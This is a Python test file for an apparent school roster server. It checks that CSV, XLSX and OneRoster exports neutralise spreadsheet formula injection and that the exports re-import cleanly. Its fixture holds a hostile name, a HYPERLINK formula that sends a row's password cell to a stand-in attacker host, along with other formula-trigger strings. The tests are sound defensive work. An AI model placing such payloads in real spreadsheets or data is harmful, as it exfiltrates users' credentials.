"""Formula injection in exports (issue 11, defect 4): names that a spreadsheet would run as
formulas are exported as text, and an export re-imported gives back the original values.

The trigger characters and the leading-quote rule are OWASP's "CSV Injection" guidance
(cells beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage return).
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from starlette.testclient import TestClient

from server.app import create_app
from tests.imports.conftest import bearer
from tests.imports.packages import district, package

# the leak reported in the issue: a name that sends the row's Password cell (column J) away
HYPERLINK = '=HYPERLINK("https://evil.example/?p="&J2,"Reset")'
HOSTILE = [HYPERLINK, "+SUM(1,2)", "-2+3", "@cmd", "'=quoted"]
# how each is written in the imported file: a cell of quotes then a trigger character is read
# as neutralised (one quote taken off), so a name that itself begins with one is doubled
IN_FILE = {"'=quoted": "''=quoted"}


@pytest.fixture
def hostile(settings, tenancy, admin_token, tmp_path):
    """A district whose students are named like formulas, and a client of the admin API."""
    files = district(students=len(HOSTILE))
    for user, name in zip(files["users.csv"][1:], HOSTILE, strict=True):
        user["givenName"] = IN_FILE.get(name, name)
    report = tenancy.run(package(tmp_path / "sis.zip", "1.1", files))
    assert report.status == "applied", report.summary
    with TestClient(create_app(settings, database=tenancy.database)) as client:
        client.headers.update(bearer(admin_token))
        yield client


def export(client: TestClient, fmt: str) -> bytes:
    response = client.get(f"/admin/api/exports?format={fmt}&school=s1")
    assert response.status_code == 200, response.text
    return response.content


def reimport(client: TestClient, name: str, body: bytes) -> dict:
    response = client.post(
        "/admin/api/imports",
        data={"dry_run": "true", "connection": "SIS", "school": "s1"},
        files={"file": (name, body, "application/octet-stream")},
    )
    assert response.status_code == 200, response.text
    return response.json()


def test_the_school_csv_export_neutralises_formulas_and_round_trips(hostile):
    body = export(hostile, "school-csv")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    names = {row[0] for row in rows[1:]}
    assert any(name.startswith(f"'{HYPERLINK}") for name in names)
    assert all(not name.startswith(("=", "+", "-", "@")) for name in names)
    assert any(name.startswith("''=quoted") for name in names)
    trial = reimport(hostile, "students.csv", body)
    assert trial["status"] == "valid"
    assert set(trial["outcomes"]) == {"unchanged"}, trial["row_results"]


def test_the_xlsx_export_writes_text_cells_never_formulas_and_round_trips(hostile):
    body = export(hostile, "xlsx")
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert cells and all(cell.data_type == "s" for cell in cells)
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert any(name.startswith(f"'{HYPERLINK}") for name in names)
    trial = reimport(hostile, "students.xlsx", body)
    assert set(trial["outcomes"]) == {"unchanged"}, trial["row_results"]


def test_the_oneroster_export_neutralises_formulas_and_round_trips(hostile):
    body = export(hostile, "oneroster-1.1")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        users = list(csv.DictReader(io.StringIO(archive.read("users.csv").decode("utf-8"))))
    given = {user["givenName"] for user in users}
    assert f"'{HYPERLINK}" in given and "'+SUM(1,2)" in given and "''=quoted" in given
    trial = reimport(hostile, "oneroster.zip", body)
    users_changed = [
        row for row in trial["row_results"] if row["file"] == "users.csv" and row["changes"]
    ]
    assert users_changed == []
